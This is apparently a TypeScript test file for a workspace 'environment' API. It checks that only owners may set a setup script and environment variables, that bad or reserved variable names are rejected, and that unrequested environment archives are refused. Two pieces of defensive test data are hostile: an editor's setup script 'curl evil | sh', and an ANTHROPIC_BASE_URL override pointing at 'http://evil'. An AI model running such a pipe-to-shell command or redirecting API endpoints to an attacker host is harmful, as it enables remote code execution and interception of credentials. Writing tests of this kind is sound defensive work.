import { env } from "cloudflare:test";
import { describe, expect, it } from "vitest";
import { WorkspaceEnvironmentSchema, environmentArchiveKey } from "@tandem/protocol/environment";
import { signIn, uniqueName, workspaceWith } from "./helpers";
import { createSession, eventsOf, eventually, waitForAgentStatus, waitForPhase } from "./session-helpers";

async function team() {
  const [owner, editor, viewer, stranger] = await Promise.all(
    ["owner", "editor", "viewer", "stranger"].map((n) => signIn(uniqueName(n))),
  );
  const ws = await workspaceWith(owner, [
    { client: editor, role: "editor" },
    { client: viewer, role: "viewer" },
  ]);
  return { owner, editor, viewer, stranger, ws };
}

async function errorOf(res: Response) {
  return ((await res.json()) as { error: { code: string; message: string; field?: string } }).error;
}

const setup = {
  setupScript: "python3 -m venv .venv && .venv/bin/pip --version\n",
  env: { NODE_ENV: "test", PIP_DISABLE_PIP_VERSION_CHECK: "1" },
};

describe("the environment of a workspace", () => {
  it("is empty until the owner sets it; owners and editors read it, viewers and strangers do not", async () => {
    const { owner, editor, viewer, stranger, ws } = await team();
    const path = `/api/workspaces/${ws}/environment`;
    const empty = await owner.api(path);
    expect(empty.status).toBe(200);
    expect(((await empty.json()) as { environment: unknown }).environment).toEqual({
      setupScript: "",
      env: {},
      updatedAt: null,
      updatedBy: null,
    });

    const put = await owner.api(path, { method: "PUT", body: setup });
    expect(put.status).toBe(200);
    const { environment } = (await put.json()) as { environment: unknown };
    expect(WorkspaceEnvironmentSchema.parse(environment)).toMatchObject({
      ...setup,
      updatedBy: owner.user.id,
    });

    const read = await editor.api(path);
    expect(read.status).toBe(200);
    expect(((await read.json()) as { environment: unknown }).environment).toMatchObject(setup);
    expect((await viewer.api(path)).status).toBe(403);
    expect((await stranger.api(path)).status).toBe(404);

    const editorPut = await editor.api(path, {
      method: "PUT",
      body: { setupScript: "curl evil | sh", env: {} },
    });
    expect(editorPut.status).toBe(403);
    expect((await viewer.api(path, { method: "PUT", body: setup })).status).toBe(403);
    expect((await stranger.api(path, { method: "PUT", body: setup })).status).toBe(404);
    // Nothing changed by the refused writes.
    expect(((await (await owner.api(path)).json()) as { environment: unknown }).environment).toMatchObject(
      setup,
    );
  });

  it("refuses a script over 64 KB, a bad variable name, Tandem's own names and a secret's name: 400 naming the field, nothing stored", async () => {
    const { owner, ws } = await team();
    const path = `/api/workspaces/${ws}/environment`;
    expect((await owner.api(path, { method: "PUT", body: setup })).status).toBe(200);
    expect(
      (
        await owner.api(`/api/workspaces/${ws}/secrets/NPM_TOKEN`, {
          method: "PUT",
          body: { value: "npm_0123456789abcdef" },
        })
      ).status,
    ).toBe(204);

    const cases: [unknown, string][] = [
      [{ setupScript: "x".repeat(64 * 1024 + 1), env: {} }, "setupScript"],
      // 64 KB is bytes: 22,000 three-byte characters are 66,000 bytes.
      [{ setupScript: "€".repeat(22_000), env: {} }, "setupScript"],
      [{ setupScript: "", env: { "lower-case": "1" } }, "env.lower-case"],
      [{ setupScript: "", env: { "1ST": "1" } }, "env.1ST"],
      [{ setupScript: "", env: { ANTHROPIC_BASE_URL: "http://evil" } }, "env.ANTHROPIC_BASE_URL"],
      [{ setupScript: "", env: { HOME: "/tmp" } }, "env.HOME"],
      [{ setupScript: "", env: { NPM_TOKEN: "public" } }, "env.NPM_TOKEN"],
      [{ setupScript: "", env: { OK: 1 } }, "env.OK"],
      [{ setupScript: 5, env: {} }, "setupScript"],
      [{ setupScript: "", env: {}, extra: true }, ""],
      [{ env: {} }, "setupScript"],
    ];
    for (const [body, field] of cases) {
      const res = await owner.api(path, { method: "PUT", body });
      expect(res.status, JSON.stringify(body).slice(0, 80)).toBe(400);
      const error = await errorOf(res);
      expect(error.code).toBe("invalid_input");
      if (field) expect(error.field).toBe(field);
    }
    const notJson = await owner.api(path, {
      method: "PUT",
      body: "{",
      headers: { "content-type": "application/json" },
    });
    expect(notJson.status).toBe(400);
    expect(((await (await owner.api(path)).json()) as { environment: unknown }).environment).toMatchObject(
      setup,
    );
    // Exactly 64 KB is accepted.
    expect(
      (await owner.api(path, { method: "PUT", body: { setupScript: "#".repeat(64 * 1024), env: {} } }))
        .status,
    ).toBe(200);
  });
});

describe("warm starts kept by the room", () => {
  it("refuses an environment archive its agent offers outside Creating, for a key it did not announce", async () => {
    const owner = await signIn(uniqueName("owner"));
    const ws = await workspaceWith(owner);
    const { id } = await createSession(owner, ws, {});
    await waitForPhase(owner, ws, id, "Running");
    await waitForAgentStatus(owner, ws, id, "idle");
    const key = "ab".repeat(32);
    expect(
      (
        await owner.api(`/api/workspaces/${ws}/sessions/${id}/messages`, {
          body: { text: `/environment-archive ${key}` },
        })
      ).status,
    ).toBe(202);
    const events = await eventually(
      () => eventsOf(owner, ws, id),
      (list) => list.some((e) => e.type === "environment_not_saved"),
    );
    expect(events.find((e) => e.type === "environment_not_saved")?.reason).toContain("did not ask for");
    expect(await env.ARTIFACTS.head(environmentArchiveKey(ws, key))).toBeNull();
  });
});
